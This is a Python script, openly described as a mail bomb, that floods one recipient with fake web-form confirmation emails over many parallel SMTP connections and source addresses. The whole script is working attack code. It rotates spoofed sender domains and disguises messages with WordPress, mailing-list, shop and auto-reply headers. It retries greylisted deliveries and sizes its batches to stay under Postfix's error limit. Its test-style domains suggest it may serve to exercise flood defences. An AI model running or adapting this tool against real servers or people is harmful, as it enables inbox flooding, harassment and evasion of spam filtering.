"""A mail bomb, from the attacker's addresses: confirmations of web forms, each from a domain of its own.

Runs on the attacker, so it uses the standard library only. Arguments: the server's address, the recipient, the number
of the first message, how many, and the addresses to send from, separated by commas. Prints JSON: how many messages got
which answer, by its first words (`250 2.0.0`, `450 4.7.1`). A broken connection counts by its error.
"""

import collections
import concurrent.futures
import json
import smtplib
import sys

MESSAGES_A_CONNECTION = 15  # Postfix ends a session after 20 errors (smtpd_hard_error_limit)
CONNECTIONS = 24
TRIES = 5
SHAPES = (  # a form's bare text, mailman's, a shop's, an answering machine's
    "From: WordPress <wordpress@{domain}>",
    "From: list-confirm+{number}@{domain}\r\nPrecedence: bulk\r\nList-Id: <list.{domain}>",
    "From: Shop <no-reply@{domain}>\r\nList-Unsubscribe: <https://{domain}/u>",
    "From: Service <service@{domain}>\r\nAuto-Submitted: auto-generated",
)


def compose(number: int, domain: str, recipient: str) -> bytes:
    shape = SHAPES[number % len(SHAPES)].format(domain=domain, number=number)
    text = f"Please confirm your address: https://{domain}/confirm/{number}\r\n" * 20
    return f"{shape}\r\nTo: {recipient}\r\nSubject: Confirm {number}\r\n\r\n{text}".encode()


def insist(connection: smtplib.SMTP, number: int, recipient: str) -> None:
    """A message that waits for the DNS is tried again, as every mail server does."""
    domain = f"d{number}.shops.outside.test"
    for remaining in reversed(range(TRIES)):
        try:
            connection.sendmail(f"bounce-{number}@{domain}", [recipient], compose(number, domain, recipient))
            return
        except smtplib.SMTPDataError as error:
            if error.smtp_code != 451 or not remaining:
                raise


def send_messages(host: str, recipient: str, numbers: range, source: str) -> list[str]:
    answers: list[str] = []
    try:
        with smtplib.SMTP(host, 25, "mx.outside.test", timeout=120, source_address=(source, 0)) as connection:
            for number in numbers:
                try:
                    insist(connection, number, recipient)
                    answers.append("250 2.0.0")
                except smtplib.SMTPRecipientsRefused as error:
                    code, text = error.recipients[recipient]
                    answers.append(f"{code} {text.decode(errors='replace').split(' ')[0]}")
    except (OSError, smtplib.SMTPException) as error:
        answers += [repr(error)[:80]] * (len(numbers) - len(answers))
    return answers


def main(host: str, recipient: str, first: str, number: str, sources: str) -> None:
    clients, end = sources.split(","), int(first) + int(number)
    parts = [
        range(start, min(start + MESSAGES_A_CONNECTION, end)) for start in range(int(first), end, MESSAGES_A_CONNECTION)
    ]
    with concurrent.futures.ThreadPoolExecutor(CONNECTIONS) as pool:
        jobs = [
            pool.submit(send_messages, host, recipient, part, clients[position % len(clients)])
            for position, part in enumerate(parts)
        ]
        print(json.dumps(collections.Counter(answer for job in jobs for answer in job.result())))


if __name__ == "__main__":
    main(*sys.argv[1:])
